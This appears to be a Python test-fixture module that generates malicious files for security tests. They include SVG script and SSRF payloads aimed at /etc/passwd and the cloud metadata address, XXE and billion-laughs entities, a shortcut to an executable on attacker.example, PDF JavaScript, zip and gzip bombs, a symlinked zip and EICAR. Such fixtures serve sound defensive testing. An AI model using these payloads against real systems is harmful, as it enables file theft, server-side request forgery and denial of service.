"""Documents, programs and archives that mean harm. Generated, none kept as a file."""

import gzip
import io
import stat
import struct
import tarfile
import zipfile

from sandbox.clamd import EICAR
from tests.media.hostile.pictures import CANARY

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
SCRIPTED = SVG % CANARY
FOREIGN = SVG % b"<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>"
FETCHING = SVG % b"<image xlink:href='file:///etc/passwd'/><use href='http://169.254.169.254/#x'/>"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (name, b"&%c;" % (name - 1) * 10) for name in range(ord("b"), ord("k")))
    + b"]>"
    + SVG % b"<text>&j;</text>"
)
HTML = b"<!DOCTYPE html><html><body>" + CANARY + b"</body></html>"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PLAYLIST = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nfile:///etc/passwd\nconcat:http://127.0.0.1/x\n"
SHORTCUT = b"[InternetShortcut]\r\nURL=file://attacker.example/share/x.exe\r\n"
PROGRAM = b"MZ\x90\x00" + b"\0" * 300
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 300
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
BITMAP = b"BM" + struct.pack("<IHHIIiiHHIIiiII", 58, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 4, 0, 0, 0, 0) + b"\0" * 4
MOVIE = struct.pack(">I", 24) + b"ftypisom" + b"\0\0\2\0" + b"isommp41" + struct.pack(">I", 2**31) + b"mdat"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
FAR_MARKUP = b"<!--" + b" " * 3000 + b"-->" + SCRIPTED
MAIL = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML


def packed(*members, kind=zipfile.ZIP_DEFLATED):
    """A zip of (name or ZipInfo, content)."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", kind) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


def linked():
    """A zip with a symbolic link to what is not its own."""
    link = zipfile.ZipInfo("static/link")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return packed((link, "/etc/passwd"))


def nested(depth):
    content = packed(("0", b"\0" * 1_000_000))
    for level in range(depth):
        content = packed(*((f"{level}-{number}.zip", content) for number in range(8)))
    return content


def overlapping(times):
    """Entries of a directory that all mean the same bytes."""
    content = bytearray(packed(("a", b"\0" * 1_000_000)))
    at = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = bytes(content[at:end])
    tail = bytearray(content[end:])
    tail[8:12] = struct.pack("<HH", times, times)
    tail[12:16] = struct.pack("<I", len(entry) * times)
    return bytes(content[:at]) + entry * times + bytes(tail)


def lying_about_its_size():
    content = bytearray(packed(("a", b"\0" * 1_000_000)))
    at = content.index(b"PK\x01\x02") + 24
    content[at : at + 4] = struct.pack("<I", 10)
    return bytes(content)


def with_device():
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        device = tarfile.TarInfo("static/null")
        device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 3
        archive.addfile(device)
    return target.getvalue()


def gzip_bomb():
    return gzip.compress(b"\0" * 50_000_000, compresslevel=9, mtime=0)


def gzipped(content):
    return gzip.compress(content, mtime=0)


def utf16(content):
    return b"\xff\xfe" + content.decode().encode("utf-16-le")


MALWARE = EICAR
